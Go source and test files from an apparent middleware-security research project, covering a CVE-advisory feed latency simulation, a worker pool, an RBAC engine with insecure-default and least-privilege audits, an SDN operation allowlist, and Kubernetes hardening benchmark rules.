		if findings[i].CVE.CVSS > findings[i-1].CVE.CVSS {
			t.Fatal("KBOM findings not sorted")
		}
	}
}

func TestFeedKindString(t *testing.T) {
	if FeedStructured.String() != "structured" || FeedKind(9).String() != "feed(9)" {
		t.Fatal("FeedKind.String mismatch")
	}
}
