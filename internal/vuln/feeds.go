package vuln

import (
	"fmt"
	"sort"
)

// This file models the Lesson-6 phenomenon: middleware projects publish
// security advisories through channels of very different maturity, and the
// shape of the channel — not the severity of the bug — dominates how long a
// production platform stays exposed.
//
// Time is in simulation days. A CVE disclosed on day D becomes *visible* to
// the platform owner at D + feed lag (+ polling interval for pull-only
// channels), then costs review days (manual channels), then patch days.

// FeedKind captures the maturity tiers the paper observed.
type FeedKind int

// Feed maturity tiers, per the paper's M12 discussion.
const (
	// FeedStructured is a machine-readable, programmatically accessible
	// CVE feed (the Kubernetes official feed).
	FeedStructured FeedKind = iota + 1
	// FeedBlog publishes advisories as blog/forum announcements requiring
	// manual extraction (Docker).
	FeedBlog
	// FeedStale is a structured feed that is no longer updated (ONOS):
	// advisories effectively never arrive through it.
	FeedStale
	// FeedUIOnly notifies only inside a product web UI that must be
	// polled by a human (Proxmox).
	FeedUIOnly
	// FeedNVD is the fallback aggregator: complete but generic, requiring
	// manual relevance review (the NVD API).
	FeedNVD
)

var feedKindNames = map[FeedKind]string{
	FeedStructured: "structured",
	FeedBlog:       "blog",
	FeedStale:      "stale",
	FeedUIOnly:     "ui-only",
	FeedNVD:        "nvd-api",
}

// String names the feed kind.
func (k FeedKind) String() string {
	if n, ok := feedKindNames[k]; ok {
		return n
	}
	return fmt.Sprintf("feed(%d)", int(k))
}

// Feed describes one advisory channel.
type Feed struct {
	Name string   `json:"name"`
	Kind FeedKind `json:"kind"`
	// Components whose advisories this feed carries.
	Components []string `json:"components"`
	// PublishLagDays between upstream disclosure and the advisory landing
	// on this channel.
	PublishLagDays int `json:"publishLagDays"`
	// PollIntervalDays for channels with no push/API (UI-only): on average
	// the owner notices half an interval late; we charge the full interval
	// worst-case to stay conservative.
	PollIntervalDays int `json:"pollIntervalDays"`
	// ManualReviewDays spent extracting, assessing exposure, and
	// cross-referencing versions for non-structured channels.
	ManualReviewDays int `json:"manualReviewDays"`
}

// Visibility computes when a CVE disclosed on disclosedDay becomes known
// and triaged through this feed; ok=false when the feed will never deliver
// it (stale feeds).
func (f Feed) Visibility(disclosedDay int) (day int, manualSteps int, ok bool) {
	switch f.Kind {
	case FeedStale:
		return 0, 0, false
	case FeedStructured:
		return disclosedDay + f.PublishLagDays, 0, true
	case FeedBlog:
		return disclosedDay + f.PublishLagDays + f.ManualReviewDays, 1, true
	case FeedUIOnly:
		return disclosedDay + f.PublishLagDays + f.PollIntervalDays + f.ManualReviewDays, 1, true
	case FeedNVD:
		return disclosedDay + f.PublishLagDays + f.ManualReviewDays, 1, true
	default:
		return 0, 0, false
	}
}

// DefaultFeeds returns the advisory landscape the paper describes for the
// GENIO middleware stack.
func DefaultFeeds() []Feed {
	return []Feed{
		{Name: "kubernetes-official-cve", Kind: FeedStructured,
			Components:     []string{"kubelet", "kube-apiserver", "etcd"},
			PublishLagDays: 1},
		{Name: "docker-blog", Kind: FeedBlog,
			Components:     []string{"docker-ce"},
			PublishLagDays: 7, ManualReviewDays: 2},
		{Name: "onos-security-page", Kind: FeedStale,
			Components: []string{"onos"}},
		{Name: "proxmox-web-ui", Kind: FeedUIOnly,
			Components:     []string{"proxmox-ve"},
			PublishLagDays: 3, PollIntervalDays: 14, ManualReviewDays: 1},
		{Name: "nvd-api", Kind: FeedNVD,
			Components: []string{"onos", "voltha", "proxmox-ve", "docker-ce",
				"kubelet", "kube-apiserver", "etcd", "openssh-server", "openssl",
				"busybox", "linux-image-onl", "curl"},
			PublishLagDays: 2, ManualReviewDays: 3},
	}
}

// Exposure is the outcome of tracking one CVE through the feed landscape.
type Exposure struct {
	CVE          CVE    `json:"cve"`
	Component    string `json:"component"`
	BestFeed     string `json:"bestFeed"`
	VisibleDay   int    `json:"visibleDay"`
	PatchedDay   int    `json:"patchedDay"`
	WindowDays   int    `json:"windowDays"`
	ManualSteps  int    `json:"manualSteps"`
	NeverVisible bool   `json:"neverVisible"`
}

// Tracker simulates the platform owner's vulnerability-tracking process
// across the configured feeds.
type Tracker struct {
	Feeds []Feed
	// PatchDays is the time from triage completion to a patch rolled out
	// across the fleet.
	PatchDays int
}

// NewTracker builds a tracker over the given feeds.
func NewTracker(feeds []Feed, patchDays int) *Tracker {
	return &Tracker{Feeds: append([]Feed(nil), feeds...), PatchDays: patchDays}
}

// Track computes the exposure window for one CVE: disclosure to patched,
// taking the earliest feed that can surface it.
func (t *Tracker) Track(c CVE) Exposure {
	exp := Exposure{CVE: c, Component: c.Package, NeverVisible: true}
	best := 1 << 30
	for _, f := range t.Feeds {
		if !contains(f.Components, c.Package) {
			continue
		}
		day, manual, ok := f.Visibility(c.DisclosedDay)
		if !ok {
			continue
		}
		if day < best {
			best = day
			exp.BestFeed = f.Name
			exp.VisibleDay = day
			exp.ManualSteps = manual
			exp.NeverVisible = false
		}
	}
	if exp.NeverVisible {
		return exp
	}
	exp.PatchedDay = exp.VisibleDay + t.PatchDays
	exp.WindowDays = exp.PatchedDay - c.DisclosedDay
	return exp
}

// TrackAll tracks every CVE in the database, sorted by descending window.
func (t *Tracker) TrackAll(db *Database) []Exposure {
	var out []Exposure
	for _, c := range db.All() {
		out = append(out, t.Track(c))
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].NeverVisible != out[j].NeverVisible {
			return out[i].NeverVisible
		}
		return out[i].WindowDays > out[j].WindowDays
	})
	return out
}

func contains(list []string, s string) bool {
	for _, v := range list {
		if v == s {
			return true
		}
	}
	return false
}
