// Package workpool provides the bounded index fan-out shared by the
// admission chain and batch admission: n independent jobs spread over a
// fixed pool of workers.
package workpool

import (
	"runtime"
	"sync"
)

// Run invokes fn(i) for every i in [0, n) from a pool of min(workers, n)
// goroutines; workers <= 0 sizes the pool to GOMAXPROCS. When the pool
// degenerates to one worker the calls run inline, sequentially, in index
// order — callers pay nothing for the fan-out machinery.
func Run(n, workers int, fn func(int)) {
	if n <= 0 {
		return
	}
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers > n {
		workers = n
	}
	if workers <= 1 {
		for i := 0; i < n; i++ {
			fn(i)
		}
		return
	}
	jobs := make(chan int)
	var wg sync.WaitGroup
	wg.Add(workers)
	for w := 0; w < workers; w++ {
		go func() {
			defer wg.Done()
			for i := range jobs {
				fn(i)
			}
		}()
	}
	for i := 0; i < n; i++ {
		jobs <- i
	}
	close(jobs)
	wg.Wait()
}
