// Package workpool provides the bounded index fan-out shared by the
// admission chain and batch admission: n independent jobs spread over a
// fixed pool of workers, with an optional context that stops dispatch.
package workpool

import (
	"context"
	"runtime"
	"sync"
)

// Run invokes fn(i) for every i in [0, n) from a pool of min(workers, n)
// goroutines; workers <= 0 sizes the pool to GOMAXPROCS. When the pool
// degenerates to one worker the calls run inline, sequentially, in index
// order — callers pay nothing for the fan-out machinery.
func Run(n, workers int, fn func(int)) {
	_ = RunCtx(context.Background(), n, workers, fn)
}

// RunCtx is Run with cancellation: once ctx is done no further index is
// dispatched, every worker drains and exits (jobs already running finish
// — fn is never interrupted mid-call), and the context error is returned.
// A nil return means every index ran. RunCtx never leaks goroutines:
// whatever the cancellation timing, all pool workers have exited when it
// returns.
func RunCtx(ctx context.Context, n, workers int, fn func(int)) error {
	if n <= 0 {
		return ctx.Err()
	}
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers > n {
		workers = n
	}
	if workers <= 1 {
		for i := 0; i < n; i++ {
			if err := ctx.Err(); err != nil {
				return err
			}
			fn(i)
		}
		return nil
	}
	jobs := make(chan int)
	var wg sync.WaitGroup
	wg.Add(workers)
	for w := 0; w < workers; w++ {
		go func() {
			defer wg.Done()
			for i := range jobs {
				fn(i)
			}
		}()
	}
	err := func() error {
		done := ctx.Done()
		for i := 0; i < n; i++ {
			select {
			case jobs <- i:
			case <-done:
				return ctx.Err()
			}
		}
		return nil
	}()
	close(jobs)
	wg.Wait()
	return err
}
