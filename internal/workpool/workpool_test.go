package workpool

import (
	"sync/atomic"
	"testing"
)

func TestRunCoversEveryIndex(t *testing.T) {
	for _, workers := range []int{-1, 0, 1, 3, 64} {
		const n = 40
		var hits [n]atomic.Int64
		Run(n, workers, func(i int) { hits[i].Add(1) })
		for i := range hits {
			if got := hits[i].Load(); got != 1 {
				t.Fatalf("workers=%d: index %d ran %d times, want 1", workers, i, got)
			}
		}
	}
}

func TestRunZeroJobs(t *testing.T) {
	ran := false
	Run(0, 4, func(int) { ran = true })
	if ran {
		t.Fatal("fn ran for n=0")
	}
}

func TestRunSequentialOrder(t *testing.T) {
	var order []int
	Run(5, 1, func(i int) { order = append(order, i) })
	for i, got := range order {
		if got != i {
			t.Fatalf("single worker must run in index order, got %v", order)
		}
	}
}
