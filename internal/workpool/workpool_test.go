package workpool

import (
	"context"
	"errors"
	"runtime"
	"sync/atomic"
	"testing"
)

func TestRunCoversEveryIndex(t *testing.T) {
	for _, workers := range []int{-1, 0, 1, 3, 64} {
		const n = 40
		var hits [n]atomic.Int64
		Run(n, workers, func(i int) { hits[i].Add(1) })
		for i := range hits {
			if got := hits[i].Load(); got != 1 {
				t.Fatalf("workers=%d: index %d ran %d times, want 1", workers, i, got)
			}
		}
	}
}

func TestRunZeroJobs(t *testing.T) {
	ran := false
	Run(0, 4, func(int) { ran = true })
	if ran {
		t.Fatal("fn ran for n=0")
	}
}

func TestRunSequentialOrder(t *testing.T) {
	var order []int
	Run(5, 1, func(i int) { order = append(order, i) })
	for i, got := range order {
		if got != i {
			t.Fatalf("single worker must run in index order, got %v", order)
		}
	}
}

// TestRunCtxCancelStopsDispatch: once the context dies, no new index is
// dispatched, in-flight jobs finish, workers exit, and the context error
// is returned.
func TestRunCtxCancelStopsDispatch(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	var started atomic.Int64
	release := make(chan struct{})
	done := make(chan error, 1)
	go func() {
		done <- RunCtx(ctx, 1000, 2, func(i int) {
			started.Add(1)
			<-release
		})
	}()
	// Wait for the two workers to pick up their first jobs, then cancel:
	// at most two more queued sends can slip through.
	for started.Load() < 2 {
		runtime.Gosched()
	}
	cancel()
	close(release)
	if err := <-done; !errors.Is(err, context.Canceled) {
		t.Fatalf("RunCtx = %v, want context.Canceled", err)
	}
	if got := started.Load(); got >= 1000 {
		t.Fatalf("dispatch did not stop: %d jobs ran", got)
	}
}

// TestRunCtxNilErrorMeansComplete: a live context runs every index and
// returns nil.
func TestRunCtxNilErrorMeansComplete(t *testing.T) {
	var hits atomic.Int64
	if err := RunCtx(context.Background(), 50, 4, func(int) { hits.Add(1) }); err != nil {
		t.Fatalf("RunCtx: %v", err)
	}
	if hits.Load() != 50 {
		t.Fatalf("ran %d jobs, want 50", hits.Load())
	}
}

// TestRunCtxInlinePathHonoursCancel: the degenerate one-worker path
// checks the context between iterations.
func TestRunCtxInlinePathHonoursCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	ran := 0
	err := RunCtx(ctx, 10, 1, func(i int) {
		ran++
		if i == 2 {
			cancel()
		}
	})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("RunCtx = %v, want context.Canceled", err)
	}
	if ran != 3 {
		t.Fatalf("ran %d jobs after cancel at index 2, want 3", ran)
	}
}
