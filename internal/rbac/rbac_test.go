package rbac

import (
	"testing"
	"testing/quick"
)

func TestDefaultDeny(t *testing.T) {
	e := NewEngine()
	d := e.Check("nobody", Permission{Verb: "get", Resource: "pods"})
	if d.Allowed {
		t.Fatal("empty engine allowed a request")
	}
}

func TestBindAndCheck(t *testing.T) {
	e := NewEngine()
	e.SetRole(Role{Name: "pod-reader", Permissions: []Permission{
		{Verb: "get", Resource: "pods"},
		{Verb: "list", Resource: "pods"},
	}})
	if err := e.Bind("alice", "pod-reader"); err != nil {
		t.Fatalf("Bind: %v", err)
	}
	if d := e.Check("alice", Permission{Verb: "get", Resource: "pods"}); !d.Allowed || d.Role != "pod-reader" {
		t.Fatalf("Check = %+v", d)
	}
	if d := e.Check("alice", Permission{Verb: "delete", Resource: "pods"}); d.Allowed {
		t.Fatal("delete allowed without grant")
	}
	if d := e.Check("bob", Permission{Verb: "get", Resource: "pods"}); d.Allowed {
		t.Fatal("unbound subject allowed")
	}
}

func TestBindUnknownRole(t *testing.T) {
	e := NewEngine()
	if err := e.Bind("alice", "ghost"); err == nil {
		t.Fatal("Bind to unknown role succeeded")
	}
}

func TestBindIdempotent(t *testing.T) {
	e := NewEngine()
	e.SetRole(Role{Name: "r", Permissions: []Permission{{Verb: "get", Resource: "x"}}})
	if err := e.Bind("a", "r"); err != nil {
		t.Fatal(err)
	}
	if err := e.Bind("a", "r"); err != nil {
		t.Fatal(err)
	}
	if got := e.PermissionCount("a"); got != 1 {
		t.Fatalf("PermissionCount = %d, want 1 (duplicate binding)", got)
	}
}

func TestUnbind(t *testing.T) {
	e := NewEngine()
	e.SetRole(Role{Name: "r", Permissions: []Permission{{Verb: "get", Resource: "x"}}})
	if err := e.Bind("a", "r"); err != nil {
		t.Fatal(err)
	}
	e.Unbind("a", "r")
	if d := e.Check("a", Permission{Verb: "get", Resource: "x"}); d.Allowed {
		t.Fatal("allowed after Unbind")
	}
	if got := len(e.Subjects()); got != 0 {
		t.Fatalf("Subjects = %d, want 0", got)
	}
}

func TestNamespaceScoping(t *testing.T) {
	e := NewEngine()
	e.SetRole(Role{Name: "tenant-a-admin", Permissions: []Permission{
		{Verb: "*", Resource: "pods", Namespace: "tenant-a"},
	}})
	if err := e.Bind("svc-a", "tenant-a-admin"); err != nil {
		t.Fatal(err)
	}
	if d := e.Check("svc-a", Permission{Verb: "delete", Resource: "pods", Namespace: "tenant-a"}); !d.Allowed {
		t.Fatal("in-namespace request denied")
	}
	if d := e.Check("svc-a", Permission{Verb: "get", Resource: "pods", Namespace: "tenant-b"}); d.Allowed {
		t.Fatal("cross-namespace request allowed (lateral movement, T5)")
	}
}

func TestWildcardMatching(t *testing.T) {
	admin := Permission{Verb: "*", Resource: "*"}
	if !admin.Matches(Permission{Verb: "delete", Resource: "secrets", Namespace: "kube-system"}) {
		t.Fatal("cluster-admin wildcard failed to match")
	}
	if !admin.IsWildcard() {
		t.Fatal("IsWildcard false for */*")
	}
	scoped := Permission{Verb: "get", Resource: "pods", Namespace: "ns1"}
	if scoped.IsWildcard() {
		t.Fatal("IsWildcard true for concrete permission")
	}
}

func TestAnonymousAccessInsecureDefault(t *testing.T) {
	e := NewEngine()
	e.SetRole(Role{Name: "default-view", Permissions: []Permission{{Verb: "get", Resource: "*"}}})
	e.AllowAnonymous = true
	e.AnonymousRole = "default-view"
	if d := e.Check("random-stranger", Permission{Verb: "get", Resource: "secrets"}); !d.Allowed {
		t.Fatal("insecure default not modelled: anonymous should be allowed")
	}
	findings := e.AuditInsecureDefaults()
	var hasAnon, hasWildcard bool
	for _, f := range findings {
		switch f.Issue {
		case "anonymous-access":
			hasAnon = true
		case "wildcard-grant":
			hasWildcard = true
		}
	}
	if !hasAnon || !hasWildcard {
		t.Fatalf("audit findings = %+v", findings)
	}
	// Hardening: disable anonymous, audit comes back clean of it.
	e.AllowAnonymous = false
	if d := e.Check("random-stranger", Permission{Verb: "get", Resource: "secrets"}); d.Allowed {
		t.Fatal("anonymous allowed after hardening")
	}
}

func TestLeastPrivilegeAudit(t *testing.T) {
	e := NewEngine()
	e.SetRole(Role{Name: "deployer", Permissions: []Permission{
		{Verb: "create", Resource: "pods"},
		{Verb: "delete", Resource: "pods"},
		{Verb: "get", Resource: "secrets"}, // never used
	}})
	if err := e.Bind("ci-bot", "deployer"); err != nil {
		t.Fatal(err)
	}
	// Observed production usage: create and delete only.
	e.Check("ci-bot", Permission{Verb: "create", Resource: "pods"})
	e.Check("ci-bot", Permission{Verb: "delete", Resource: "pods"})

	unused := e.AuditLeastPrivilege()
	if len(unused) != 1 || unused[0].Permission.Resource != "secrets" {
		t.Fatalf("unused = %+v", unused)
	}
}

func TestLeastPrivilegeAlwaysFlagsWildcards(t *testing.T) {
	e := NewEngine()
	e.SetRole(Role{Name: "admin", Permissions: []Permission{{Verb: "*", Resource: "*"}}})
	if err := e.Bind("ops", "admin"); err != nil {
		t.Fatal(err)
	}
	// Heavy usage cannot justify a wildcard.
	e.Check("ops", Permission{Verb: "get", Resource: "pods"})
	e.Check("ops", Permission{Verb: "delete", Resource: "nodes"})
	unused := e.AuditLeastPrivilege()
	if len(unused) != 1 || !unused[0].Permission.IsWildcard() {
		t.Fatalf("unused = %+v", unused)
	}
}

func TestPrivilegeReductionWorkflow(t *testing.T) {
	// Lesson 5's iterative tightening: start from wildcard, observe usage,
	// replace with concrete grants, verify workloads still pass.
	e := NewEngine()
	e.SetRole(Role{Name: "workload", Permissions: []Permission{{Verb: "*", Resource: "*"}}})
	if err := e.Bind("svc", "workload"); err != nil {
		t.Fatal(err)
	}
	traffic := []Permission{
		{Verb: "get", Resource: "configmaps"},
		{Verb: "watch", Resource: "pods"},
	}
	for _, p := range traffic {
		if d := e.Check("svc", p); !d.Allowed {
			t.Fatalf("baseline traffic denied: %v", p)
		}
	}
	// Tighten: concrete role from observed usage.
	e.SetRole(Role{Name: "workload", Permissions: traffic})
	for _, p := range traffic {
		if d := e.Check("svc", p); !d.Allowed {
			t.Fatalf("traffic denied after tightening: %v", p)
		}
	}
	if d := e.Check("svc", Permission{Verb: "delete", Resource: "nodes"}); d.Allowed {
		t.Fatal("escalation path still open after tightening")
	}
	if len(e.AuditLeastPrivilege()) != 0 {
		t.Fatalf("audit still unhappy: %+v", e.AuditLeastPrivilege())
	}
}

func TestAllowlistBlocksUnlistedOps(t *testing.T) {
	a := DefaultSDNAllowlist()
	if !a.Allow("device.register") {
		t.Fatal("production op blocked")
	}
	if !a.Allow("DEVICE.LIST") { // case-insensitive
		t.Fatal("case-insensitive match failed")
	}
	for _, op := range []string{"shell.exec", "debug.attach", "log.raw"} {
		if a.Allow(op) {
			t.Fatalf("dangerous op %q allowed", op)
		}
	}
	allowed, blocked := a.Counts()
	if allowed != 2 || blocked != 3 {
		t.Fatalf("Counts = %d/%d", allowed, blocked)
	}
}

func TestPermissionString(t *testing.T) {
	p := Permission{Verb: "get", Resource: "pods"}
	if p.String() != "get:pods" {
		t.Fatalf("String = %q", p.String())
	}
	p.Namespace = "ns"
	if p.String() != "get:pods@ns" {
		t.Fatalf("String = %q", p.String())
	}
}

// Property: a concrete grant matches exactly itself among concrete requests.
func TestConcreteMatchProperty(t *testing.T) {
	verbs := []string{"get", "list", "create", "delete"}
	resources := []string{"pods", "secrets", "nodes"}
	f := func(gi, gj, ri, rj uint8) bool {
		grant := Permission{Verb: verbs[int(gi)%len(verbs)], Resource: resources[int(gj)%len(resources)]}
		req := Permission{Verb: verbs[int(ri)%len(verbs)], Resource: resources[int(rj)%len(resources)]}
		want := grant.Verb == req.Verb && grant.Resource == req.Resource
		return grant.Matches(req) == want
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

// Property: granting strictly more roles never turns an allowed request
// into a denied one (monotonicity).
func TestMonotonicityProperty(t *testing.T) {
	f := func(seed uint8) bool {
		e := NewEngine()
		e.SetRole(Role{Name: "r1", Permissions: []Permission{{Verb: "get", Resource: "pods"}}})
		e.SetRole(Role{Name: "r2", Permissions: []Permission{{Verb: "delete", Resource: "nodes"}}})
		if err := e.Bind("s", "r1"); err != nil {
			return false
		}
		req := Permission{Verb: "get", Resource: "pods"}
		before := e.Check("s", req).Allowed
		if err := e.Bind("s", "r2"); err != nil {
			return false
		}
		after := e.Check("s", req).Allowed
		return !before || after
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 20}); err != nil {
		t.Fatal(err)
	}
}
