// Package rbac implements the role-based access control engine GENIO
// applies across its middleware (M10): roles granting verb/resource
// permissions, bindings attaching roles to subjects, and policy evaluation.
//
// Beyond enforcement it provides the audit tooling the paper's Lesson 5
// calls for: detection of insecure defaults (wildcard grants, anonymous
// access), a least-privilege audit comparing granted permissions against
// observed usage, and an allowlist mode for network-management APIs where
// the production capability set is small and closed (the "easy" half of
// Lesson 5, versus feature-rich orchestrator RBAC, the hard half).
package rbac

import (
	"fmt"
	"sort"
	"strings"
	"sync"
)

// Permission is a verb on a resource, optionally namespace-scoped.
// "*" wildcards match any value — and are flagged by the auditor.
type Permission struct {
	Verb      string `json:"verb"`
	Resource  string `json:"resource"`
	Namespace string `json:"namespace,omitempty"` // "" = cluster-scoped / any
}

// String renders verb:resource[@namespace].
func (p Permission) String() string {
	if p.Namespace == "" {
		return p.Verb + ":" + p.Resource
	}
	return p.Verb + ":" + p.Resource + "@" + p.Namespace
}

// Matches reports whether this (possibly wildcarded) grant covers a
// concrete request permission.
func (p Permission) Matches(req Permission) bool {
	return wild(p.Verb, req.Verb) && wild(p.Resource, req.Resource) &&
		(p.Namespace == "" || p.Namespace == "*" || p.Namespace == req.Namespace)
}

func wild(grant, req string) bool { return grant == "*" || grant == req }

// IsWildcard reports whether any field is a wildcard.
func (p Permission) IsWildcard() bool {
	return p.Verb == "*" || p.Resource == "*" || p.Namespace == "*"
}

// Role is a named set of permissions.
type Role struct {
	Name        string       `json:"name"`
	Permissions []Permission `json:"permissions"`
}

// Binding attaches a role to a subject (user or service account).
type Binding struct {
	Subject string `json:"subject"`
	Role    string `json:"role"`
}

// Decision is the outcome of an access check.
type Decision struct {
	Allowed bool   `json:"allowed"`
	Role    string `json:"role,omitempty"` // role that granted access
}

// Engine evaluates RBAC policy. Safe for concurrent use.
type Engine struct {
	mu       sync.RWMutex
	roles    map[string]Role
	bindings map[string][]string // subject -> roles
	// usage records permissions actually exercised per subject, feeding
	// the least-privilege audit.
	usage map[string]map[string]bool
	// AllowAnonymous models the insecure default of some middleware where
	// unauthenticated requests map to a default-privileged subject.
	AllowAnonymous bool
	AnonymousRole  string
}

// NewEngine creates an empty engine (default-deny).
func NewEngine() *Engine {
	return &Engine{
		roles:    make(map[string]Role),
		bindings: make(map[string][]string),
		usage:    make(map[string]map[string]bool),
	}
}

// SetRole installs or replaces a role.
func (e *Engine) SetRole(r Role) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.roles[r.Name] = r
}

// Role returns a role by name.
func (e *Engine) Role(name string) (Role, bool) {
	e.mu.RLock()
	defer e.mu.RUnlock()
	r, ok := e.roles[name]
	return r, ok
}

// Bind attaches a role to a subject.
func (e *Engine) Bind(subject, role string) error {
	e.mu.Lock()
	defer e.mu.Unlock()
	if _, ok := e.roles[role]; !ok {
		return fmt.Errorf("rbac: unknown role %q", role)
	}
	for _, r := range e.bindings[subject] {
		if r == role {
			return nil
		}
	}
	e.bindings[subject] = append(e.bindings[subject], role)
	return nil
}

// Unbind removes a role from a subject.
func (e *Engine) Unbind(subject, role string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := e.bindings[subject][:0]
	for _, r := range e.bindings[subject] {
		if r != role {
			out = append(out, r)
		}
	}
	if len(out) == 0 {
		delete(e.bindings, subject)
	} else {
		e.bindings[subject] = out
	}
}

// Check evaluates whether subject may perform req, recording usage on
// success. Unknown subjects fall back to the anonymous role when
// AllowAnonymous is set (the insecure default of T5).
func (e *Engine) Check(subject string, req Permission) Decision {
	e.mu.Lock()
	defer e.mu.Unlock()
	roles := e.bindings[subject]
	if len(roles) == 0 && e.AllowAnonymous && e.AnonymousRole != "" {
		roles = []string{e.AnonymousRole}
	}
	for _, rn := range roles {
		role, ok := e.roles[rn]
		if !ok {
			continue
		}
		for _, grant := range role.Permissions {
			if grant.Matches(req) {
				if e.usage[subject] == nil {
					e.usage[subject] = make(map[string]bool)
				}
				e.usage[subject][req.String()] = true
				return Decision{Allowed: true, Role: rn}
			}
		}
	}
	return Decision{Allowed: false}
}

// Subjects returns all bound subjects sorted.
func (e *Engine) Subjects() []string {
	e.mu.RLock()
	defer e.mu.RUnlock()
	out := make([]string, 0, len(e.bindings))
	for s := range e.bindings {
		out = append(out, s)
	}
	sort.Strings(out)
	return out
}

// grantedPermissions returns the deduplicated grant list for a subject.
func (e *Engine) grantedPermissions(subject string) []Permission {
	var out []Permission
	seen := make(map[string]bool)
	for _, rn := range e.bindings[subject] {
		role, ok := e.roles[rn]
		if !ok {
			continue
		}
		for _, p := range role.Permissions {
			if !seen[p.String()] {
				seen[p.String()] = true
				out = append(out, p)
			}
		}
	}
	return out
}

// AuditFinding is one issue raised by the policy auditor.
type AuditFinding struct {
	Subject string `json:"subject,omitempty"`
	Role    string `json:"role,omitempty"`
	Issue   string `json:"issue"`
	Detail  string `json:"detail"`
}

// AuditInsecureDefaults flags wildcard grants and anonymous access — the
// misconfigurations T5 warns about and M11's checker tools look for.
func (e *Engine) AuditInsecureDefaults() []AuditFinding {
	e.mu.RLock()
	defer e.mu.RUnlock()
	var out []AuditFinding
	names := make([]string, 0, len(e.roles))
	for n := range e.roles {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		for _, p := range e.roles[n].Permissions {
			if p.IsWildcard() {
				out = append(out, AuditFinding{
					Role:   n,
					Issue:  "wildcard-grant",
					Detail: fmt.Sprintf("role %q grants %s", n, p),
				})
			}
		}
	}
	if e.AllowAnonymous {
		out = append(out, AuditFinding{
			Issue:  "anonymous-access",
			Detail: fmt.Sprintf("unauthenticated requests map to role %q", e.AnonymousRole),
		})
	}
	return out
}

// UnusedGrant pairs a subject with a permission it holds but never used.
type UnusedGrant struct {
	Subject    string     `json:"subject"`
	Permission Permission `json:"permission"`
}

// AuditLeastPrivilege compares grants against recorded usage: permissions
// never exercised are candidates for removal. Wildcard grants are always
// reported (usage can never justify them). This is the iterative
// privilege-reduction workflow of Lesson 5.
func (e *Engine) AuditLeastPrivilege() []UnusedGrant {
	e.mu.RLock()
	defer e.mu.RUnlock()
	var out []UnusedGrant
	subjects := make([]string, 0, len(e.bindings))
	for s := range e.bindings {
		subjects = append(subjects, s)
	}
	sort.Strings(subjects)
	for _, s := range subjects {
		used := e.usage[s]
		for _, grant := range e.grantedPermissions(s) {
			if grant.IsWildcard() {
				out = append(out, UnusedGrant{Subject: s, Permission: grant})
				continue
			}
			if !used[grant.String()] {
				out = append(out, UnusedGrant{Subject: s, Permission: grant})
			}
		}
	}
	return out
}

// PermissionCount returns the total concrete permissions granted to a
// subject (wildcards count as one each), the Lesson-5 reduction metric.
func (e *Engine) PermissionCount(subject string) int {
	e.mu.RLock()
	defer e.mu.RUnlock()
	return len(e.grantedPermissions(subject))
}

// --- Allowlist mode for network-management APIs ----------------------------

// Allowlist is the closed capability set used for SDN controllers (ONOS,
// VOLTHA) per M10: the production operations are enumerated; everything
// else — shell access, debug endpoints, raw log retrieval — is blocked.
type Allowlist struct {
	Name string
	ops  map[string]bool
	mu   sync.RWMutex
	// Blocked counts denied operations, showing that blocking unneeded
	// functions causes no disruption (Lesson 5) when production traffic
	// only uses listed ops.
	blockedCount int
	allowedCount int
}

// NewAllowlist creates an allowlist with the given permitted operations.
func NewAllowlist(name string, ops ...string) *Allowlist {
	a := &Allowlist{Name: name, ops: make(map[string]bool, len(ops))}
	for _, op := range ops {
		a.ops[strings.ToLower(op)] = true
	}
	return a
}

// Allow checks an operation, recording the outcome.
func (a *Allowlist) Allow(op string) bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.ops[strings.ToLower(op)] {
		a.allowedCount++
		return true
	}
	a.blockedCount++
	return false
}

// Counts reports allowed/blocked operation totals.
func (a *Allowlist) Counts() (allowed, blocked int) {
	a.mu.RLock()
	defer a.mu.RUnlock()
	return a.allowedCount, a.blockedCount
}

// DefaultSDNAllowlist returns the production capability set the paper
// enumerates for network-management software: device registration, logical
// network configuration, diagnostic logging.
func DefaultSDNAllowlist() *Allowlist {
	return NewAllowlist("sdn-production",
		"device.register",
		"device.list",
		"network.configure",
		"network.status",
		"diag.log",
	)
}
