package scap

import (
	"context"
	"fmt"

	"genio/internal/container"
	"genio/internal/orchestrator"
)

// Middleware benchmark profiles (M11): the NSA Kubernetes Hardening
// Guidance / CIS checks over cluster settings, and docker-bench checks over
// container images. Lesson 5 notes that no single checker covers all risks;
// the profiles here deliberately overlap only partially, and
// CombinedClusterCoverage quantifies the union.

// ClusterRule is a rule over cluster state.
type ClusterRule = Rule[*orchestrator.Cluster]

// ClusterProfile is a benchmark over cluster state.
type ClusterProfile = Profile[*orchestrator.Cluster]

// ImageRule is a rule over a container image.
type ImageRule = Rule[*container.Image]

// ImageProfile is a benchmark over container images.
type ImageProfile = Profile[*container.Image]

// NSAKubernetesProfile returns the NSA hardening guidance subset covering
// control-plane configuration.
func NSAKubernetesProfile() ClusterProfile {
	flag := func(id, title string, sev Severity, bad func(orchestrator.Settings) (bool, string)) ClusterRule {
		return ClusterRule{
			ID: id, Title: title, Severity: sev,
			Check: func(c *orchestrator.Cluster) (Status, string) {
				if isBad, detail := bad(c.Settings); isBad {
					return Fail, detail
				}
				return Pass, ""
			},
		}
	}
	return ClusterProfile{
		Name: "nsa-k8s-hardening",
		Rules: []ClusterRule{
			flag("nsa-anon-auth", "Anonymous authentication disabled", Critical,
				func(s orchestrator.Settings) (bool, string) {
					return s.AnonymousAuth, "anonymous-auth=true on API server"
				}),
			flag("nsa-rbac", "RBAC authorization enabled", Critical,
				func(s orchestrator.Settings) (bool, string) {
					return !s.RBACEnabled, "RBAC disabled"
				}),
			flag("nsa-audit-log", "Audit logging enabled", Medium,
				func(s orchestrator.Settings) (bool, string) {
					return !s.AuditLoggingEnabled, "no audit log"
				}),
